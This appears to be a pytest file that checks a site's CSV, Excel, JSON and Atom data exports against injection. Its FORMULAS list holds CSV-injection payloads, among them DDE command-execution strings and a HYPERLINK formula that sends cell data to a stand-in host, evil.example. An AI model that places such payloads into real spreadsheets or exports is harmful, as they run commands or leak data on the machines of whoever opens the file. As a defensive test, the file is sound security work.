"""Whatever the words of a plan are, its data holds words: no formula, no tag, no element, no broken file."""

import csv
import io
import json
import re
from collections.abc import Mapping
from dataclasses import replace
from functools import cache
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook
from places import plan_of
from test_hostile_output import ADDRESSES, ATTACKS

from conftest import AS_OF, national
from ssc_site.census import take_census
from ssc_site.corpus import Corpus
from ssc_site.data.csvfile import restored
from ssc_site.data.dataset import data_files
from ssc_site.data.fields import TABLES
from ssc_site.data.rows import rows_of
from ssc_site.schema import Plan

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Open")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    " \u00a0=1+1",
    "'=1+1",
    "\uff1d1+1",
    "{=1+1}",
    '"=1+1"',
    "=1\n=2",
    "https://evil.example",
    "mailto:a@b.uk",
    "internal:'Items'!A1",
    "NaN",
    "1e999",
    "2026-11-21",
    "TRUE",
    "_x003D_1+1",
]
WORDS = [*FORMULAS, *ATTACKS]
FORMULA = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


@cache
def corpus() -> Corpus:
    plan: Plan = plan_of(WORDS, ["https://b.uk/"] * (len(WORDS) - len(ADDRESSES)) + ADDRESSES)
    site = national().site.model_copy(update={"base": "https://b.uk/?a=1&b='<x>]]>", "name": "<b>=1&'\"</b>"})
    return Corpus(replace(national(), site=site), {plan.force: plan}, {}, {plan.force: {}})


@cache
def files() -> Mapping[str, bytes]:
    return data_files(corpus(), take_census(corpus(), AS_OF))


def test_no_field_of_a_csv_is_a_formula_and_each_comes_back_as_it_was() -> None:
    rows = rows_of(corpus(), take_census(corpus(), AS_OF))
    for table in TABLES:
        found = [row for own in rows.values() for row in own.of(table)]
        text = files()[f"data/v1/{table.name}.csv"].decode("utf-8-sig")
        header, *lines = csv.reader(io.StringIO(text, newline=""), strict=True)
        assert header == list(table.names)
        assert [value for line in lines for value in line if FORMULA.match(value)] == []
        assert [list(map(restored, line)) for line in lines] == [
            [str(row[name]) for name in table.names] for row in found
        ]


def test_no_field_of_the_workbook_is_a_formula_a_link_or_a_number() -> None:
    book = load_workbook(io.BytesIO(files()["data/v1/answers.xlsx"]))
    said = set()
    for row in book["Entries"].iter_rows():
        for field in row:
            assert field.data_type in ("s", "n", "d")
            assert field.hyperlink is None
            said.add(field.value)
    assert {word for word in FORMULAS if not set(word) & set("\t\n")} <= said


def test_no_json_ends_a_script_or_has_a_number_that_json_lacks() -> None:
    for path, data in files().items():
        if path.endswith(".json"):
            assert not re.search(rb"[<>&\x80-\xff]", data), path
            made = json.loads(data, parse_constant=pytest.fail)
            assert isinstance(made, dict)


def test_every_feed_is_whole_and_has_only_its_own_elements() -> None:
    for path, data in files().items():
        if path.endswith(".xml"):
            names = {each.tag.rpartition("}")[2] for each in ET.fromstring(data).iter()}  # noqa: S314 - ours
            assert names <= {
                "feed",
                "id",
                "title",
                "updated",
                "author",
                "name",
                "link",
                "entry",
                "published",
                "content",
            }
